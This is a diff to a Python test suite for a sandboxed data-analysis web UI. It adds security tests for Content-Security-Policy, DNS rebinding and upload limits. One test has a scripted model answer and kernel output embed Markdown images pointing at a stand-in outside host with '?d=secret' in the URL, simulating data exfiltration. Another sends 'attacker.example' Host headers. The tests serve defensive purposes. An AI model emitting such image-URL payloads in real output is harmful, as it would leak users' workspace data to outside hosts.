@@ -7,6 +7,7 @@ Screenshots land in ``artifacts/web/`` for a human to look at.
 from __future__ import annotations
 
 import csv
+import http.server
 import os
 import re
 import socket
@@ -20,6 +21,7 @@ from pathlib import Path
 os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
 os.environ["GRADIO_HEARTBEAT_INTERVAL"] = "1"  # notice closed tabs quickly
 
+import httpx  # noqa: E402
 import pytest  # noqa: E402
 
 from tests.conftest import ROOT, docker_settings  # noqa: E402
@@ -29,6 +31,7 @@ from ui.services import ServeSettings, Services  # noqa: E402
 ARTIFACTS = ROOT / "artifacts" / "web"
 EXAMPLE_CSV = ROOT / "ui" / "examples" / "sales.csv"
 CHROMIUM = "/usr/bin/chromium"
+UPLOAD_LIMIT_MB = 1
 
 
 @dataclass
@@ -72,7 +75,7 @@ def web_server(sandbox_image: str, jb_home: Path) -> Iterator[WebServer]:
 
     model = ScriptedModel().start()
     settings = ServeSettings(openai_base_url=model.url, openai_model="scripted-model", format="fenced",
-                             sandbox=docker_settings(jb_home, instance="webui"))
+                             upload_limit_mb=UPLOAD_LIMIT_MB, sandbox=docker_settings(jb_home, instance="webui"))
     services = Services(settings)
     port = _free_port()
     server = uvicorn.Server(uvicorn.Config(make_app(services), host="127.0.0.1", port=port, log_level="warning"))
@@ -99,14 +102,16 @@ def browser():
         b.close()
 
 
-def open_page(browser, server: WebServer, blocked: list[str]):
-    """A fresh browser context (its own Gradio session): every request off loopback is refused
-    and recorded in ``blocked``."""
+def open_page(browser, server: WebServer, blocked: list[str], refused: list[str] | None = None,
+              also_allow: tuple[str, ...] = ()):
+    """A fresh browser context (its own Gradio session): every request off loopback (and the
+    ``also_allow`` hosts) is refused and recorded in ``blocked``; what the page's
+    Content-Security-Policy refused is recorded in ``refused``."""
     context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="en-US")
 
     def guard(route):
         host = re.sub(r"^\w+://([^/:]+).*$", r"\1", route.request.url)
-        if host in ("127.0.0.1", "localhost") or route.request.url.startswith(("data:", "blob:")):
+        if host in ("127.0.0.1", "localhost", *also_allow) or route.request.url.startswith(("data:", "blob:")):
             route.continue_()
         else:
             blocked.append(route.request.url)
@@ -114,6 +119,8 @@ def open_page(browser, server: WebServer, blocked: list[str]):
 
     context.route("**/*", guard)
     page = context.new_page()
+    if refused is not None:
+        page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
     page.goto(server.url)
     page.locator("#jb-input textarea").wait_for(timeout=20_000)
     return context, page
@@ -152,7 +159,8 @@ def test_upload_ask_and_see_code_chart_and_answer(web_server: WebServer, browser
     from playwright.sync_api import expect
 
     blocked: list[str] = []
-    context, page = open_page(browser, web_server, blocked)
+    refused: list[str] = []
+    context, page = open_page(browser, web_server, blocked, refused)
     page.locator("input[data-testid$='upload-button']").set_input_files(str(EXAMPLE_CSV))
     expect(listed(page, "sales.csv")).to_have_count(1, timeout=20_000)
     web_server.model.enqueue(
@@ -174,7 +182,78 @@ def test_upload_ask_and_see_code_chart_and_answer(web_server: WebServer, browser
     page.locator("#jb-notebook").click()
     expect(page.locator("#jb-nb-file")).to_contain_text(".ipynb", timeout=10_000)
     assert blocked == [], f"the page tried to reach other hosts: {blocked}"
+    assert refused == [], f"the Content-Security-Policy refused what the page needs: {refused}"
     context.close()
+
+
+@pytest.fixture
+def outside_host() -> Iterator[tuple[str, list[str]]]:
+    """A web server "elsewhere" (127.0.0.2: another origin to the page), and the paths asked of it."""
+    asked: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.2:{server.server_address[1]}", asked
+    server.shutdown()
+    server.server_close()
+
+
+def test_shown_output_cannot_send_workspace_data_to_other_hosts(web_server: WebServer, browser,
+                                                                outside_host: tuple[str, list[str]]) -> None:
+    """Kernel output and the model's answer are rendered as Markdown: an image from another host
+    in either would make the browser send what its URL carries there. The page's policy refuses."""
+    from playwright.sync_api import expect
+
+    elsewhere, asked = outside_host
+    refused: list[str] = []
+    context, page = open_page(browser, web_server, [], refused, also_allow=("127.0.0.2",))
+    web_server.model.enqueue(
+        fenced("from IPython.display import Markdown, display\n"
+               f"display(Markdown('![chart]({elsewhere}/display.png?d=' + 'secret' + ')'))"),
+        f"Done. ![chart]({elsewhere}/answer.png?d=secret)")
+    ask(page, "Show me a chart")
+    chat = page.locator("#jb-chat")
+    expect(chat).to_contain_text("Done.", timeout=30_000)
+    expect(chat.locator(f"img[src^='{elsewhere}/']")).to_have_count(2)  # rendered, and refused
+    deadline = time.monotonic() + 5
+    while len(refused) < 2 and time.monotonic() < deadline:
+        page.wait_for_timeout(100)
+    assert asked == [], f"the browser fetched from another host: {asked}"
+    assert len(refused) >= 2 and all("img-src" in r for r in refused), refused
+    context.close()
+
+
+def test_without_a_token_only_requests_for_loopback_names_are_served(web_server: WebServer) -> None:
+    """A page of another site that points its own name at 127.0.0.1 (DNS rebinding) is refused."""
+    port = web_server.url.rstrip("/").rsplit(":", 1)[1]
+    with httpx.Client(base_url=web_server.url, timeout=30) as c:
+        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "localhost"):
+            assert c.get("/api/status", headers={"Host": host}).status_code == 200, host
+        for host in (f"attacker.example:{port}", "127.0.0.1.attacker.example", "[::2]"):
+            r = c.get("/api/status", headers={"Host": host})
+            assert r.status_code == 400 and "--api-token" in r.json()["error"], host
+        assert c.get("/", headers={"Host": f"attacker.example:{port}"}).status_code == 400
+        assert c.get("/healthz", headers={"Host": "attacker.example"}).status_code == 200
+
+
+def test_uploads_through_the_page_are_bounded_by_the_upload_limit(web_server: WebServer) -> None:
+    limit = UPLOAD_LIMIT_MB << 20
+    with httpx.Client(base_url=web_server.url, timeout=30) as c:
+        assert c.get("/config").json()["max_file_size"] == limit  # the page refuses larger files itself
+        r = c.post("/gradio_api/upload", files={"files": ("big.bin", b"0" * limit)})
+        assert r.status_code == 413
+        r = c.post("/gradio_api/upload", files={"files": ("small.csv", b"a,b\n1,2\n")})
+        assert r.status_code == 200 and r.json()[0].endswith("small.csv")
 
 
 def test_stop_interrupts_a_long_run(web_server: WebServer, browser) -> None:
